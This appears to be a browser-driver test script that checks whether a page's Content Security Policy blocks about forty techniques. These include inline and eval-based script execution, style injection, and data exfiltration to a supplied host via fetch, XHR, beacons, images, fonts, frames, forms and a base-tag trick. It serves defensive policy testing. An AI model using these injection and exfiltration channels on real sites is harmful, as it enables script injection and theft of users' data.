// Each of these is somebody's way to run foreign code in a page or to carry something out of it.
// `done` tells what has run, `host` is whom it is carried to. A page without a policy lets all pass.
const [host] = arguments;
const to = (name) => `http://${host}/${name}`;
const add = (name, properties, parent = document.body) =>
  parent.appendChild(Object.assign(document.createElement(name), properties));
const code = (name) => `window.done.push("${name}")`;
const blob = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], { type }));
window.done = [];
window.refused = [];
addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => window.refused.push(`${effectiveDirective} ${blockedURI}`), true);

const attacks = {
  // Code and style that no file holds.
  "inline-script": () => add("script", { textContent: code("inline-script") }),
  "inline-handler": () => {
    const button = add("button", {});
    button.setAttribute("onclick", code("inline-handler"));
    button.click();
  },
  "script-link": () => add("a", { href: `javascript:${code("script-link")}` }).click(),
  "inline-style": () => {
    add("style", { textContent: "#victim { color: rgb(1, 2, 3) }" });
    const { color } = getComputedStyle(add("p", { id: "victim" }));
    if (color === "rgb(1, 2, 3)") window.done.push("inline-style");
  },
  "style-attribute": () => {
    const victim = add("p", {});
    victim.setAttribute("style", "color: rgb(1, 2, 3)");
    if (getComputedStyle(victim).color === "rgb(1, 2, 3)") window.done.push("style-attribute");
  },
  eval: () => window.eval(code("eval")),
  function: () => new window.Function(code("function"))(),
  "timer-text": () => window.setTimeout(code("timer-text")),
  "data-script": () => add("script", { src: `data:text/javascript,${encodeURIComponent(code("data-script"))}` }),
  "blob-script": () => add("script", { src: blob(code("blob-script")) }),
  // Ways out.
  fetch: () => window.fetch(to("fetch"), { mode: "no-cors" }),
  xhr: () => {
    const request = new XMLHttpRequest();
    request.open("POST", to("xhr"));
    request.send("secret");
  },
  socket: () => new WebSocket(`ws://${host}/socket`),
  "event-source": () => new EventSource(to("event-source")),
  beacon: () => navigator.sendBeacon(to("beacon"), "secret"),
  image: () => { new Image().src = to("image"); },
  "image-set": () => add("img", { srcset: `${to("image-set")} 1x` }),
  "svg-image": () => {
    const svg = document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"));
    svg.appendChild(document.createElementNS(svg.namespaceURI, "image")).setAttribute("href", to("svg-image"));
  },
  background: () => { add("p", { textContent: "x" }).style.backgroundImage = `url(${to("background")})`; },
  font: () => new FontFace("stranger", `url(${to("font")})`).load(),
  "style-sheet": () => add("link", { rel: "stylesheet", href: to("style-sheet") }),
  script: () => add("script", { src: to("script") }),
  module: () => add("script", { type: "module", src: to("module") }),
  import: () => import(to("import")),
  worker: () => new Worker(blob(`importScripts("${to("worker")}")`)),
  frame: () => add("iframe", { src: to("frame") }),
  object: () => add("object", { data: to("object") }),
  embed: () => add("embed", { src: to("embed") }),
  media: () => add("video", { src: to("media"), preload: "auto" }).load(),
  form: () => {
    add("iframe", { name: "answer" });
    add("form", { action: to("form"), target: "answer", method: "post" }).submit();
  },
  ping: () => add("a", { href: location.hash || "#", ping: to("ping"), textContent: "ping" }).click(),
  prefetch: () => add("link", { rel: "prefetch", href: to("prefetch") }, document.head),
  preload: () => add("link", { rel: "preload", as: "image", href: to("preload") }, document.head),
  "module-preload": () => add("link", { rel: "modulepreload", href: to("module-preload") }, document.head),
  // The last one, since it is for good.
  base: () => {
    add("base", { href: to("base/") }, document.head);
    new Image().src = "beside";
  },
};

// From a task of the page's own, in which no right of the driver's script is left.
return new Promise((finished) => setTimeout(async () => {
  for (const attack of Object.values(attacks)) {
    try {
      await Promise.race([attack(), new Promise((soon) => setTimeout(soon, 50))]);
    } catch { /* Refused at once. */ }
  }
  finished(Object.keys(attacks));
}));
